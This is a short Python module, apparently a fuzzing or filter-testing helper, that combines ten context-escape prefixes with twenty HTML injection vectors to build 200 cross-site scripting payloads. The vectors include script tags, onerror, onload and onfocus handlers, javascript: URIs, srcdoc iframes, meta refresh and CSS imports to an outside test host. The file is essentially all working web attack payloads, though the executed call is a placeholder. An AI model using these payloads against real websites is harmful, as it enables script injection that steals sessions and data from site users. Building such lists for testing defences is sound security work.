"""Two hundred ways to have a browser run what somebody typed: each vector behind each way out of where text stands.

Knows what runs when it is taken for markup. Does not know where it is typed.
"""

from itertools import product

RUNS = "ran(1)"
OUT_OF = ("", '">', "'>", "</title>", "</textarea>", "-->", "</script>", "</style>", "]]>", "{{1}}{%x%}")
"""Ways out of an attribute, an element, a comment, a script, a template."""
VECTORS = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<iframe src=javascript:{}>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<a href=javascript:{} autofocus>x</a>",
    "<form action=javascript:{}><button>x</form>",
    "<base href=javascript:{}//>",
    "<meta http-equiv=refresh content='0;javascript:{}'>",
    "<link rel=stylesheet href=//x.test/?{}>",
    "<style>@import '//x.test/?{}'</style>",
    "<math><mtext><img src=x onerror={}></mtext></math>",
)
PAYLOADS = [before + vector.format(RUNS) for before, vector in product(OUT_OF, VECTORS)]
